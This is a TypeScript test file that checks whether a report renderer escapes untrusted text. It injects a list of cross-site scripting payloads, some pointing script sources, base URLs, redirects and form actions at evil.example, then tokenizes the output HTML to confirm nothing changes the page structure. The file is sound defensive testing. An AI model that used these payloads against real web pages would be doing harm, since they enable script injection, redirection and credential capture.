import { execFileSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { renderReport } from '../../src/report/report.ts'
import { sampleRecord } from '../records/sample.ts'

/** Text that would become code, a link or a request, if a page contained it unescaped in any place. */
const attacks = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.example/x></script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '</style><script>alert(1)</script>',
  '</title></head><body onload=alert(1)>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form action=https://evil.example><input name=x>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '<ſcript>alert(1)</ſcript>',
  '<scr\0ipt>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '\u0024{alert(1)}{{alert(1)}}',
  '\u202e<script>\u2028alert(1)',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<',
] as const

/** A page in which every text from a guest, a family or a tool is this text. */
function pageWith(text: string): string {
  const suite = { suite: text, verifier: text, durationMs: 1, junit: 'junit/suite.xml', problem: text }
  return renderReport(
    sampleRecord({
      ...{ family: text, version: text, sourceCommit: text, tools: { [text]: text }, notes: [text] },
      tasks: [{ phase: 'configure', name: text, status: 'ok', durationMs: 1 }],
      suites: [{ ...suite, cases: [{ name: text, status: 'failed', durationMs: 1, message: `${text}\n${text}` }] }],
      error: { phase: 'verify', message: text, hint: text },
      base: { id: text, name: text, digest: text, ancestor: { family: text, version: text } },
    }),
  )
}

/** Prints the elements of each page with their attributes, as a tokenizer of HTML finds them, and the text that a reader sees. */
const tokenizer = `
import json, sys
from html.parser import HTMLParser
class Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.text = [], []
    def handle_starttag(self, tag, attributes):
        self.elements.append([tag, sorted(name for name, _ in attributes)])
    def handle_endtag(self, tag):
        self.elements.append(['/' + tag, []])
    def handle_comment(self, data):
        self.elements.append(['comment', []])
    def handle_data(self, data):
        self.text.append(data)
pages = []
for text in json.load(sys.stdin):
    page = Page(); page.feed(text); page.close()
    pages.append([page.elements, ''.join(page.text)])
json.dump(pages, sys.stdout)`

type Tokens = [elements: [tag: string, attributes: string[]][], text: string]

function tokenize(pages: readonly string[]): Tokens[] {
  const output = execFileSync('python3', ['-c', tokenizer], { input: JSON.stringify(pages), encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 })
  return JSON.parse(output) as Tokens[]
}

test('no text changes the elements and attributes of the page; the reader sees it as text', () => {
  const [plain, ...hostile] = tokenize(['text', ...attacks].map(pageWith))
  expect(plain?.[0].length).toBeGreaterThan(100)
  for (const [index, [elements, text]] of hostile.entries()) {
    const attack = attacks[index] ?? ''
    expect(elements, attack).toEqual(plain?.[0])
    if (!attack.includes('\0')) expect(text).toContain(attack)
  }
})

test('an attack that is not escaped is found', () => {
  const [plain, attacked] = tokenize(['text', '<img src=x onerror=alert(1)>'].map((text) => `<p>${text}</p>`))
  expect(attacked?.[0]).not.toEqual(plain?.[0])
})
